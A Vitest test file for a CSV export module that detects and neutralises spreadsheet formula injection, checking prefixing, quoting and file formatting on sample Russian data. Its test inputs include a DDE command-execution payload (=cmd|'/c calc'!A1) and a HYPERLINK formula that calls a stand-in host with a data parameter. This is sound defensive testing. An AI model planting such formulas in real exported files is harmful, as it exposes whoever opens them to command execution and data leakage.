import { describe, expect, it } from 'vitest';
import { csvField, csvSafeText, isFormulaLike, toCsv } from './spreadsheet-safety';

describe('formula injection: which texts a spreadsheet would evaluate', () => {
  it.each([
    '=1+2',
    '=HYPERLINK("http://x.example/?d=1")',
    "=cmd|'/c calc'!A1",
    '@SUM(1+1)',
    '-2+3',
    '+7 912 000-00-00',
    '+SUM(A1:A2)',
    '-',
    '\t=1+2',
    '\r=1+2',
    '\n=1+2',
    '\u0000=1',
  ])('%j is formula-like', (text) => {
    expect(isFormulaLike(text)).toBe(true);
    expect(csvSafeText(text)).toBe(`'${text}`);
  });

  it.each(['', 'Иванов', '26-501', 'ИС-21', '4,25', '5', '-5', '-2,5', '+3', '-0.5', '—', ' =1+2', "'=1+2", 'a=1'])(
    '%j is kept as it is',
    (text) => {
      expect(isFormulaLike(text)).toBe(false);
      expect(csvSafeText(text)).toBe(text);
    },
  );
});

describe('CSV fields and files', () => {
  it('writes numbers as numbers (decimal comma), neutralises and quotes text by RFC 4180', () => {
    expect(csvField(-5)).toBe('-5');
    // Quoted for a comma: Excel reads a quoted field's number all the same.
    expect(csvField(-2.5)).toBe('"-2,5"');
    expect(csvField(null)).toBe('');
    expect(csvField('-2,5')).toBe('"-2,5"');
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('=HYPERLINK("http://x.example/?d=1")')).toBe('"\'=HYPERLINK(""http://x.example/?d=1"")"');
    expect(csvField('\t=1+2')).toBe('"\'\t=1+2"');
    expect(csvField('Группа ИС-21, 09.02.07')).toBe('"Группа ИС-21, 09.02.07"');
    expect(csvField('a;b')).toBe('"a;b"');
  });

  it('a file: BOM, semicolons, CRLF', () => {
    expect(
      toCsv([
        ['№', 'ФИО'],
        [1, '@SUM(1+1)'],
      ]),
    ).toBe("\uFEFF№;ФИО\r\n1;'@SUM(1+1)\r\n");
  });
});
